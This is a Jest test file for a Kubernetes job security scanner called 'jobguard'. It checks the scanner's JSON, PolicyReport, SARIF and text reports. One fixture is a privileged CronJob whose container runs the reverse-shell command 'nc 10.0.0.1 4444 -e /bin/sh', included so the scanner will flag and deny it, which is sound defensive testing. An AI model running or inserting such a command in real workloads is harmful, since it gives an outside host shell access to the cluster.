import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { mkdtemp, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { Log } from 'sarif';
import { parseAllDocuments } from 'yaml';
import type { ScanResult } from '../src/format/result.js';
import { main } from '../src/cli/index.js';
import { report } from '../src/cli/report.js';
import { FakeApiServer } from './support/fake-apiserver.js';
import { fakeIo } from './fixtures/scan/fake-io.js';

const SHELL = {
  metadata: { name: 'argus', namespace: 'default', uid: 'u-argus' },
  spec: {
    schedule: '*/5 * * * *',
    jobTemplate: {
      spec: {
        template: {
          spec: {
            containers: [
              {
                name: 'c',
                image: 'alpine',
                args: ['nc 10.0.0.1 4444 -e /bin/sh'],
                securityContext: { privileged: true },
              },
            ],
          },
        },
      },
    },
  },
};
const BENIGN = {
  metadata: { name: 'report', namespace: 'reports', uid: 'u-report' },
  spec: { template: { spec: { containers: [{ name: 'c', image: 'registry.example.com/r:1' }] } } },
};

interface PolicyReport {
  apiVersion: string;
  kind: string;
  metadata: { namespace?: string; labels: Record<string, string> };
  scope?: Record<string, string>;
  summary: Record<string, number>;
  results: { rule: string; result: string; resources?: Record<string, string>[] }[];
}

let server: FakeApiServer;
let dir: string;

beforeAll(async () => {
  server = await FakeApiServer.start();
  server.addObjects('batch/v1', 'cronjobs', [SHELL]);
  server.addObjects('batch/v1', 'jobs', [BENIGN]);
  dir = await mkdtemp(path.join(tmpdir(), 'jobguard-report-'));
  await writeFile(path.join(dir, 'kubeconfig'), server.kubeConfig().exportConfig());
});

afterAll(async () => {
  await server.close();
});

async function run(argv: string[]) {
  const io = fakeIo({ cwd: dir, env: {} });
  const code = await report(['--kubeconfig', 'kubeconfig', '--profile', 'kql', ...argv], io);
  return { code, out: io.out(), err: io.err() };
}

describe('jobguard report', () => {
  it('lists and scores the workloads of every namespace (json)', async () => {
    const { out, code } = await run(['--all-namespaces', '--format', 'json']);
    const json = JSON.parse(out) as { results: ScanResult[]; summary: unknown };
    expect(json.results.map((r) => [r.kind, r.namespace, r.name, r.score, r.verdict])).toEqual([
      ['CronJob', 'default', 'argus', 3, 'deny'],
      ['Job', 'reports', 'report', 0, 'allow'],
    ]);
    expect(json.summary).toEqual({ objects: 2, skipped: 0, allow: 1, annotate: 0, warn: 0, deny: 1 });
    expect(code).toBe(1);
  });

  it('reads only the namespaces asked for', async () => {
    const { out } = await run(['--namespace', 'reports', '--format', 'json']);
    expect((JSON.parse(out) as { results: ScanResult[] }).results.map((r) => r.name)).toEqual(['report']);
  });

  it('writes one PolicyReport per namespace and a ClusterPolicyReport as multi-document YAML', async () => {
    const { out } = await run(['-A', '--format', 'policyreport', '--fail-on', 'never']);
    expect(out).not.toMatch(/[&*]a\d/); // no YAML anchors or aliases
    const docs = parseAllDocuments(out);
    if (!Array.isArray(docs)) throw new Error('no documents');
    const reports = docs.map((d) => d.toJS() as PolicyReport);
    expect(reports.map((r) => [r.apiVersion, r.kind, r.metadata.namespace])).toEqual([
      ['wgpolicyk8s.io/v1alpha2', 'PolicyReport', 'default'],
      ['wgpolicyk8s.io/v1alpha2', 'PolicyReport', 'reports'],
      ['wgpolicyk8s.io/v1alpha2', 'ClusterPolicyReport', undefined],
    ]);
    const [shell, benign, cluster] = reports as [PolicyReport, PolicyReport, PolicyReport];
    expect(shell.scope).toEqual({ apiVersion: 'v1', kind: 'Namespace', name: 'default' });
    expect(shell.metadata.labels).toEqual({ 'app.kubernetes.io/managed-by': 'jobguard' });
    expect(shell.summary).toEqual({ pass: 0, fail: 3, warn: 0, error: 0, skip: 0 });
    expect(shell.results[0]).toMatchObject({
      policy: 'jobguard',
      result: 'fail',
      // kql weights are 1 against thresholds 1/1/3: each finding alone reaches warn.
      severity: 'high',
      scored: true,
      source: 'jobguard',
      category: expect.stringMatching(/^MITRE ATT&CK T\d{4}(\.\d{3})?$/) as unknown,
      resources: [
        { apiVersion: 'batch/v1', kind: 'CronJob', namespace: 'default', name: 'argus', uid: 'u-argus' },
      ],
      properties: { score: '3', verdict: 'deny', mode: 'warn', action: 'warn', weight: '1' },
    });
    expect(shell.results.map((r) => r.rule).sort()).toEqual([
      'kql-privileged',
      'kql-suspicious-command',
      'kql-suspicious-image',
    ]);
    expect(benign.results).toEqual([expect.objectContaining({ rule: 'score', result: 'pass' })]);
    expect(benign.summary.pass).toBe(1);
    expect(cluster.results.map((r) => [r.rule, r.result, r.resources])).toEqual([
      ['namespace', 'fail', [{ apiVersion: 'v1', kind: 'Namespace', name: 'default' }]],
      ['namespace', 'pass', [{ apiVersion: 'v1', kind: 'Namespace', name: 'reports' }]],
    ]);
  });

  it('writes SARIF and text', async () => {
    const sarif = JSON.parse((await run(['-A', '--format', 'sarif'])).out) as Log;
    expect(sarif.version).toBe('2.1.0');
    expect(sarif.runs[0]!.results!.length).toBeGreaterThan(0);
    const text = (await run(['-A'])).out;
    expect(text).toMatch(/^deny\s+3\s+CronJob default\/argus\s+fake\s+\[warn mode: warn\]$/m);
  });

  it('exits 2 with a message when the cluster cannot be reached or the flags conflict', async () => {
    const kubeconfig = server.kubeConfig();
    kubeconfig.clusters[0] = { ...kubeconfig.clusters[0]!, server: 'http://127.0.0.1:1' };
    await writeFile(path.join(dir, 'dead'), kubeconfig.exportConfig());
    const io = fakeIo({ cwd: dir, env: {} });
    expect(await report(['--kubeconfig', 'dead', '-A'], io)).toBe(2);
    expect(io.err()).toMatch(/^jobguard report: cannot list workloads: /);
    const conflict = fakeIo({ cwd: dir, env: {} });
    expect(await main(['report', '--kubeconfig', 'kubeconfig', '-A', '-n', 'x'], conflict)).toBe(2);
    expect(conflict.err()).toContain('exclude each other');
  });
});
